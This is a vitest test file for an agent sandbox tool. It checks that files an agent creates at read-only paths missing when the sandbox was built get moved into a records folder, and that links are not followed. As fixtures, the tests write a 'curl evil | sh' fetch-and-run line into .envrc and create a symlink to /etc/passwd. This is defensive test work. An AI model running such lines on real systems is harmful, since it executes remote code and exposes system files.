import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, readFileSync, readlinkSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { placedMounts } from '../../../src/box/box-mounts.js';
import type { BoxRequest } from '../../../src/box/box-request.js';
import { sweepNested } from '../../../src/box/nested-sweep.js';
import { setAsideLine } from '../../../src/box/swept-lines.js';
import { RalphError } from '../../../src/errors.js';
import { realRepository } from '../git/real-repository.js';

/** A repository with a commit, a home with a client's state folder, and `readOnly` as the user named them. */
async function boxFor(readOnly: string[], { dryRun = false, prepare = async (_root: string) => {} } = {}) {
  const repo = await realRepository('ralph-absent-ro-');
  repo.git('commit', '-q', '--allow-empty', '-m', 'start');
  const root = await realpath(repo.root);
  await prepare(root);
  const home = await realpath(await mkdtemp(join(tmpdir(), 'ralph-absent-ro-home-')));
  await mkdir(join(home, '.claude'));
  const request: BoxRequest = {
    mode: 'auto',
    root,
    env: {},
    clientState: ['.claude'],
    extras: { write: [], readOnly, hidden: [] },
    sandboxed: false,
    dryRun,
  };
  const placed = await placedMounts(request, {
    home,
    tmp: await mkdtemp(join(tmpdir(), 'ralph-absent-ro-tmp-')),
    visible: [],
  });
  const sweep = async () =>
    (await sweepNested(placed.nested, placed.places, placed.absent.swept)).moved.map(setAsideLine);
  return { root, home, placed, sweep, records: join(root, '.git', 'ralph') };
}

describe('read-only paths that are not there as the box is made', () => {
  it('records those the agent could make, where they really are, and not those the box holds anyway', async () => {
    const prepare = async (root: string) => {
      await mkdir(join(root, 'lib'));
      await symlink('lib', join(root, 'src'));
      await writeFile(join(root, 'there.txt'), 'yours\n');
      await symlink('nowhere', join(root, 'gone'));
    };
    const given = [
      '.envrc',
      'build/secret.txt',
      'src/.envrc',
      'lib/.envrc',
      'there.txt',
      '.git/hooks/pre-push',
      'gone/x',
    ];
    const { root, placed, home } = await boxFor([...given, '~/.envrc', '~/.claude/notes.md'], { prepare });

    expect(placed.absent.swept).toEqual([
      { given: '.envrc', base: root, below: ['.envrc'] },
      { given: 'build/secret.txt', base: root, below: ['build', 'secret.txt'] },
      { given: 'src/.envrc', base: join(root, 'lib'), below: ['.envrc'] },
      { given: '~/.claude/notes.md', base: join(home, '.claude'), below: ['notes.md'] },
    ]);
    // Held without a sweep: `.git/hooks` and your home are read-only in the box, so nothing is made there.
    expect(placed.absent.unheld).toEqual(['gone/x']);
    // The folder above each is a mount of its own, so the agent cannot rename it and make its own.
    expect(placed.mounts).toContainEqual({ path: join(root, 'lib'), access: 'write', folder: true });
  });

  it("moves whatever the agent made there into ralph's records, each said once, and follows no link", async () => {
    const { root, sweep, records } = await boxFor(['.envrc', 'build/secret.txt', 'pipe', 'link', 'docs/x/y']);
    expect(await sweep()).toEqual([]);
    expect(existsSync(join(records, 'set-aside'))).toBe(false);
    const outside = await realpath(await mkdtemp(join(tmpdir(), 'ralph-absent-ro-outside-')));
    await writeFile(join(outside, 'y'), 'not the agent’s to move\n');

    // What the agent does in the box: a file, a folder with a file, a FIFO, a link, a link on the way.
    await writeFile(join(root, '.envrc'), 'curl evil | sh\n');
    await mkdir(join(root, 'build/secret.txt'), { recursive: true });
    await writeFile(join(root, 'build/secret.txt/inside'), 'kept\n');
    await writeFile(join(root, 'build/output.js'), 'the work\n');
    execFileSync('mkfifo', [join(root, 'pipe')]);
    await symlink('/etc/passwd', join(root, 'link'));
    await mkdir(join(root, 'docs'));
    await symlink(outside, join(root, 'docs/x'));
    const lines = await sweep();

    const [into] = execFileSync('ls', [join(records, 'set-aside')], { encoding: 'utf8' })
      .trim()
      .split('\n');
    const aside = join(records, 'set-aside', into as string);
    expect(lines).toEqual(
      [
        ['.envrc', '.envrc'],
        ['build/secret.txt', 'build/secret.txt'],
        ['pipe', 'pipe'],
        ['link', 'link'],
        ['docs/x', 'docs/x/y'],
      ].map(
        ([path, given]) =>
          `the box moved ${join(root, path as string)}, which the agent made, to ${join(aside, path as string)}: --box-read-only ${given} was not there as the box was made, so the box could not hold it read-only`,
      ),
    );
    for (const path of ['.envrc', 'build/secret.txt', 'pipe', 'link', 'docs/x'])
      expect(lstatSync(join(root, path), { throwIfNoEntry: false }), path).toBeUndefined();
    expect(readFileSync(join(aside, '.envrc'), 'utf8')).toBe('curl evil | sh\n');
    expect(readFileSync(join(aside, 'build/secret.txt/inside'), 'utf8')).toBe('kept\n');
    expect(lstatSync(join(aside, 'pipe')).isFIFO()).toBe(true);
    expect(readlinkSync(join(aside, 'link'))).toBe('/etc/passwd');
    expect(readlinkSync(join(aside, 'docs/x'))).toBe(outside);
    // What lies beside the path, and where a link pointed, is left as it was.
    expect(readFileSync(join(root, 'build/output.js'), 'utf8')).toBe('the work\n');
    expect(readFileSync(join(outside, 'y'), 'utf8')).toBe('not the agent’s to move\n');
    expect(await sweep()).toEqual([]);
  });

  it('leaves the folders on the way, and a path the agent did not make', async () => {
    const { root, sweep } = await boxFor(['build/deep/secret.txt']);
    await mkdir(join(root, 'build/deep'), { recursive: true });
    await writeFile(join(root, 'build/other'), 'the work\n');
    expect(await sweep()).toEqual([]);
    expect(existsSync(join(root, 'build/deep'))).toBe(true);
  });

  it('records them in a dry run too, making nothing', async () => {
    const { root, placed } = await boxFor(['.envrc'], { dryRun: true });
    expect(placed.absent.swept).toEqual([{ given: '.envrc', base: root, below: ['.envrc'] }]);
    expect(existsSync(join(root, '.git/ralph'))).toBe(false);
  });

  // Another file system than the work tree's: the client's state in a home elsewhere, here /dev/shm.
  const elsewhere = existsSync('/dev/shm') && statSync('/dev/shm').dev !== statSync(tmpdir()).dev;
  it.skipIf(!elsewhere)(
    'copies what it cannot rename, and stops at what it cannot copy, leaving it there',
    async () => {
      const { root, placed } = await boxFor(['.envrc', 'pipe']);
      const records = await mkdtemp(join('/dev/shm', 'ralph-absent-ro-records-'));
      const places = { ...placed.places, recordDir: records };
      await mkdir(join(root, '.envrc'));
      await symlink('/etc/passwd', join(root, '.envrc/link'));
      const [moved] = (await sweepNested(placed.nested, places, placed.absent.swept)).moved;
      expect(moved?.from).toBe(join(root, '.envrc'));
      expect(readlinkSync(join(moved?.to as string, 'link'))).toBe('/etc/passwd');
      expect(existsSync(join(root, '.envrc'))).toBe(false);

      execFileSync('mkfifo', [join(root, 'pipe')]);
      const stopped = sweepNested(placed.nested, places, placed.absent.swept);
      await expect(stopped).rejects.toThrow(
        new RegExp(
          `^the box could not move ${join(root, 'pipe')}, which the agent made, into ${records}/set-aside/at-`,
        ),
      );
      await expect(stopped).rejects.toBeInstanceOf(RalphError);
      expect(lstatSync(join(root, 'pipe')).isFIFO()).toBe(true);
      await rm(records, { recursive: true, force: true });
    },
  );
});
